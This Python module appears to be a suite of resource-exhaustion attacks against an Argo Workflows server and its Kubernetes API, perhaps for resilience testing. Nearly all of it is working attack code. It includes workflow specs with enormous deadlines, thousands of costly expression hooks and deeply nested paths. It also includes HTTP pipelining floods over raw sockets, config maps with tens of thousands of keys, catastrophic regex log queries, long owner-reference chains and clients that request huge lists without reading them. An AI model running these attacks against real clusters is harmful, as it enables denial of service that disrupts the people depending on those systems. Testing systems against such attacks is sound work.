"""Bombs of a fourth kind: what costs little once, many times over. Requests that wait behind each other, objects that each pod refers to,
expressions of one event, chains of owners, lists of large runs.
"""

from __future__ import annotations

import contextlib
import json
import socket
import threading
import time
from collections.abc import Callable

from attacks import (
    ARCHIVED,
    CORE,
    LASTS,
    LOG,
    RUNS,
    TEMPLATES,
    Attack,
    Server,
    asks,
    large_run,
    logged,
    run,
    said,
    together,
    unread,
)
from workflows import CONFIG_MAP, ECHO, HOLD, SHELL, SHORT, TRUE, Json, loop, workflow

COSTLY = "len(map(1..3000, {map(1..3000, {1})})) > 0"
BINDINGS = "/apis/argoproj.io/v1alpha1/namespaces/default/workfloweventbindings"
LARGE_ARGUMENT = {"parameters": [{"name": "x", "value": "x" * 15_000_000}]}


def realtime_gauges(count: int) -> Json:
    """Gauges each of which is an expression at its bound."""
    value = "{{=" + COSTLY.removesuffix(" > 0") + "}}"
    gauges = [{"name": f"r{n}", "help": "x", "gauge": {"realtime": True, "value": value}} for n in range(count)]
    return workflow(HOLD | {"name": "m"}, metrics={"prometheus": gauges})


def deep_file(levels: int) -> Json:
    """A task that makes folders within folders, and keeps them."""
    script = f"mkdir /tmp/d; cd /tmp/d; for n in $(seq {levels}); do mkdir a; cd a; done"
    return workflow(
        {"name": "m", "container": SHELL | {"args": [script]},
         "outputs": {"artifacts": [{"name": "d", "path": "/tmp/d", "archive": {"none": {}}}]}}
    )  # fmt: skip


WORKFLOWS: dict[str, Callable[[], Json]] = {
    "deadline: text of 200,000 digits": lambda: loop(HOLD | {"activeDeadlineSeconds": "9" * 200_000}, 200),
    "suspend: a duration of 300,000 units": lambda: loop(HOLD | {"suspend": {"duration": "1h" * 300_000}}, 100),
    "metrics: 300 real-time gauges that are costly": lambda: realtime_gauges(300),
    "hooks: 2,000 of the workflow, costly": lambda: workflow(
        HOLD | {"name": "m"}, TRUE, hooks={f"h{n}": {"template": "t", "expression": COSTLY} for n in range(2000)}),
    "resource: conditions of 500 kB": lambda: loop(
        {"name": "r", "resource": {
            "action": "create", "manifest": CONFIG_MAP, "successCondition": ",".join(["data.a == b"] * 40_000)}}, 100),
    "artifacts: a path 100,000 folders deep": lambda: workflow(TRUE | {"name": "m", "inputs": {"artifacts": [
        {"name": "a", "path": "/tmp/" + "a/" * 100_000, "raw": {"data": "x"}}]}}),
    "artifacts: 20,000 folders within each other": lambda: deep_file(20_000),
    "retry: 2,000 with a backoff of a nanosecond": lambda: loop(
        {"name": "f", "container": SHELL | {"args": ["false"]},
         "retryStrategy": {"limit": "1000000", "backoff": {"duration": "1ns"}}}, 2000),
}  # fmt: skip


def pipelined(count: int, each: int, path: str = "/api/v1/version") -> Attack:
    """Connections that send all of their requests at once."""

    def attack(server: Server) -> str:
        head = f"GET {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {server.token}\r\n\r\n".encode()
        held: list[socket.socket] = []

        def one() -> None:
            with contextlib.suppress(OSError):
                connection = socket.create_connection(server.argo, timeout=3)
                held.append(connection)
                connection.sendall(head * each)

        threads = [threading.Thread(target=one, daemon=True) for _ in range(count)]
        for thread in threads:
            thread.start()
        time.sleep(LASTS)
        for connection in held:
            connection.close()
        return f"{len(held)} connections"

    return attack


def behind_a_stream(server: Server) -> str:
    """Requests without end behind one that is never over."""
    head = f"GET /api/v1/workflow-events/default HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {server.token}\r\n\r\n"
    sent = 0
    with socket.create_connection(server.argo, timeout=10) as connection:
        with contextlib.suppress(OSError):
            for _ in range(2000):
                connection.sendall(head.encode() * 1000)
                sent += 1000
        return f"{sent} sent"


def with_config_maps(count: int, keys: int, then: Callable[[list[str]], Json]) -> Attack:
    """Config maps of so many keys, and a workflow that refers to them."""

    def attack(server: Server) -> str:
        names = [f"many-{n}" for n in range(count)]
        for name in names:
            document = {"metadata": {"name": name}, "data": {f"a{n}": "1" * 50 for n in range(keys)}}
            server.call("POST", f"{CORE}/configmaps", document, kubernetes=True)
        text = run(server, then(names))
        for name in names:
            server.call("DELETE", f"{CORE}/configmaps/{name}", kubernetes=True)
        return text

    return attack


def all_variables_of(names: list[str]) -> Json:
    sources = [{"configMapRef": {"name": name}} for name in names]
    return loop({"name": "p", "container": {"image": "busybox", "command": ["true"], "envFrom": sources}}, 300)


def a_semaphore_of_each_key(names: list[str]) -> Json:
    keys = [{"configMapKeyRef": {"name": names[0], "key": f"a{n}"}} for n in range(5000)]
    return workflow(HOLD | {"name": "m", "synchronization": {"semaphores": keys}})


def costly_bindings(server: Server) -> str:
    """A hundred bindings whose selectors are at their bound, and thirty events at once."""
    template = {"metadata": {"name": "bound"}, "spec": workflow(ECHO | {"name": "m"})["spec"]}
    server.call("POST", TEMPLATES, {"template": template})
    for n in range(100):
        spec = {"event": {"selector": COSTLY}, "submit": {"workflowTemplateRef": {"name": "bound"}}}
        server.call("POST", BINDINGS, {"metadata": {"name": f"c{n}"}, "spec": spec}, kubernetes=True)
    answer = together(30, "POST", "/api/v1/events/default/x", lambda: {"a": 1})(server)
    for n in range(100):
        server.call("DELETE", f"{BINDINGS}/c{n}", kubernetes=True)
    server.call("DELETE", f"{TEMPLATES}/bound")
    return answer


def chain_of_owners(count: int) -> Attack:
    """Objects each of which owns the next; then the first is deleted."""

    def attack(server: Server) -> str:
        uid = ""
        for n in range(count):
            owner = [{"apiVersion": "v1", "kind": "ConfigMap", "name": f"own-{n - 1}", "uid": uid}] if n else []
            document = {"metadata": {"name": f"own-{n}", "ownerReferences": owner}}
            answer = server.call("POST", f"{CORE}/configmaps", document, kubernetes=True)[1]
            uid = json.loads(answer)["metadata"]["uid"]
        start = time.monotonic()
        status = server.call("DELETE", f"{CORE}/configmaps/own-0", kubernetes=True)[0]
        return f"{status} after {time.monotonic() - start:.1f} s"

    return attack


def wide_selectors(server: Server) -> str:
    """What is done to chosen nodes, chosen by 20,000 terms."""
    name, answers = large_run(server), []
    chosen = {"nodeFieldSelector": ",".join(f"displayName!=x{n}" for n in range(20_000))}
    server.call("PUT", f"{RUNS}/{name}/terminate", {}, timeout=120)
    for verb, body in (("retry", {"restartSuccessful": True}), ("resume", {}), ("set", {"phase": "Succeeded"})):
        answers.append(said(*server.call("PUT", f"{RUNS}/{name}/{verb}", {**chosen, **body}, timeout=120)))
    server.call("DELETE", f"{RUNS}/{name}", timeout=120)
    return "; ".join(answers)


def unread_list(clients: int, count: int, path: str = RUNS, *, archived: bool = False) -> Attack:
    """Runs of 15 MB that are over, and many who ask for all of them and do not read."""

    def attack(server: Server) -> str:
        document = workflow(SHORT | {"name": "m"}, arguments=LARGE_ARGUMENT)
        names: list[str] = []
        for _ in range(count):
            status, answer = server.call("POST", RUNS, {"workflow": document}, timeout=120)
            if status == 200:
                names.append(json.loads(answer)["metadata"]["name"])
        time.sleep(2)
        for name in names if archived else ():
            server.call("DELETE", f"{RUNS}/{name}", timeout=120)
        with unread(server, clients, path):
            time.sleep(2 * LASTS)
        for name in () if archived else names:
            server.call("DELETE", f"{RUNS}/{name}", timeout=120)
        return f"{len(names)} runs"

    return attack


GREP = f"{LOG}&grep=" + "(a|b)" * 1800
REQUESTS: dict[str, Attack] = {
    "pipelining: 200 connections of 2,000 requests": pipelined(200, 2000),
    "pipelining: requests without end behind a stream": behind_a_stream,
    "references: 20 config maps of 15,000 keys for each of 300 pods": with_config_maps(20, 15_000, all_variables_of),
    "references: a semaphore of each of 5,000 keys": with_config_maps(1, 10_000, a_semaphore_of_each_key),
    "events: 100 costly bindings, 30 at once": costly_bindings,
    "logs: a pattern of 9,000 characters, 20 over 3 million lines": logged("seq 3000000", asks(GREP, 20)),
    "owners: a chain of 2,000": chain_of_owners(2000),
    "put: nodes chosen by 20,000 terms": wide_selectors,
    "unread: 100 ask for a list of runs of 15 MB": unread_list(100, 20),
    "unread: 20 ask for archived runs of 15 MB": unread_list(20, 40, ARCHIVED, archived=True),
}
